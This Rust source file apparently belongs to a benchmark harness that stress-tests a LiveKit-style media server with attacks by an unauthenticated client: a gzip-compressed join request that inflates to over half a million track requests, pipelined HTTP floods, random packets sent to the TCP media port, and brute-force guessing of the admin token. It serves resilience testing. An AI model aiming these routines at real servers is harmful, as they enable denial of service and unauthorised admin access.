//! Attacks by an unauthenticated client.

use std::io::Write;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use livekit_protocol::signal_response::Message as Response;
use livekit_protocol::wrapped_join_request::Compression;
use livekit_protocol::{AddTrackRequest, JoinRequest, WrappedJoinRequest};
use prost::Message as _;
use str0m::Candidate;

use super::attacker::{AttackOptions, Done};
use super::flood::{exchange, on_each_connection, send};
use crate::BenchError;
use crate::connection::request;
use crate::media::signalling::Signalling;

/// Messages per join request: more than 1 MiB can hold.
const MESSAGES: usize = 524_000;
/// Requests per write.
const PIPELINED: usize = 500;
/// Time limit for the server to announce its media port.
const PATIENCE: Duration = Duration::from_secs(10);

/// Sends bytes to the media port over TCP.
pub fn send_packets(
    options: &AttackOptions,
    until: Instant,
    bytes: &[u8],
) -> Result<Done, BenchError> {
    let media = media_port(options)?.to_string();
    on_each_connection(&media, until, |stream, done| send(stream, bytes, done))
}

/// Returns random packets, each behind its length.
pub fn packets_without_meaning() -> Vec<u8> {
    let mut random = fastrand::Rng::with_seed(7);
    let packet = |length: u16| {
        let content = std::iter::repeat_with(|| random.u8(..)).take(length.into());
        [length.to_be_bytes().to_vec(), content.collect()].concat()
    };
    (1..200).map(packet).collect::<Vec<_>>().concat()
}

/// Sends join requests that inflate to many messages.
pub fn ask_to_join(options: &AttackOptions, until: Instant) -> Result<Done, BenchError> {
    let inflated = JoinRequest {
        add_track_requests: vec![AddTrackRequest::default(); MESSAGES],
        ..JoinRequest::default()
    };
    let wrapped = WrappedJoinRequest {
        compression: Compression::Gzip.into(),
        join_request: gzip(&inflated.encode_to_vec())?,
    };
    let text = base64(&wrapped.encode_to_vec());
    let head = format!("GET /rtc/v1/validate?access_token=none&join_request={text}");
    let request = request("none", &head, "");
    on_each_connection(&options.api, until, |stream, done| {
        exchange(stream, &request, done)
    })
}

/// Sends pipelined requests for the OpenAPI description until the server stops reading, and keeps the connection open.
pub fn pipeline_unread(options: &AttackOptions, until: Instant) -> Result<Done, BenchError> {
    let requests = request("none", "GET /openapi.json", "").repeat(PIPELINED);
    on_each_connection(&options.api, until, |stream, done| {
        send(stream, &requests, done)
    })
}

/// Sends pipelined requests, and reads the responses.
pub fn pipeline(options: &AttackOptions, until: Instant) -> Result<Done, BenchError> {
    let requests = request("none", "GET /healthz", "").repeat(PIPELINED);
    on_each_connection(&options.api, until, |stream, done| {
        exchange(stream, &requests, done)
    })
}

/// Guesses the admin listener's token.
pub fn guess_admin_tokens(options: &AttackOptions, until: Instant) -> Result<Done, BenchError> {
    on_each_connection(&options.admin, until, |stream, done| {
        let guess = format!("guess-{:x}", fastrand::u64(..));
        exchange(stream, &request(&guess, "GET /debug/actors", ""), done)
    })
}

/// Joins to learn the TCP media port, which is no secret.
fn media_port(options: &AttackOptions) -> Result<SocketAddr, BenchError> {
    let mut signalling =
        Signalling::connect(options.api.parse()?, &options.token, [127, 0, 0, 1].into())?;
    let until = Instant::now() + PATIENCE;
    while Instant::now() < until {
        let candidates: Vec<String> = match signalling.receive()? {
            Some(Response::Trickle(trickle)) => {
                let init: serde_json::Value = serde_json::from_str(&trickle.candidate_init)?;
                init["candidate"]
                    .as_str()
                    .map(str::to_owned)
                    .into_iter()
                    .collect()
            }
            Some(Response::Offer(offer)) => offer
                .sdp
                .lines()
                .filter_map(|line| line.strip_prefix("a="))
                .map(str::to_owned)
                .collect(),
            Some(_) => Vec::new(),
            None => {
                std::thread::sleep(Duration::from_millis(1));
                Vec::new()
            }
        };
        let parsed = candidates
            .iter()
            .filter_map(|text| Candidate::from_sdp_string(text).ok());
        if let Some(tcp) = parsed
            .into_iter()
            .find(|candidate| candidate.tcptype().is_some())
        {
            return Ok(tcp.addr());
        }
    }
    Err("the server has named no media port for TCP".into())
}

fn gzip(bytes: &[u8]) -> Result<Vec<u8>, BenchError> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes)?;
    Ok(encoder.finish()?)
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}
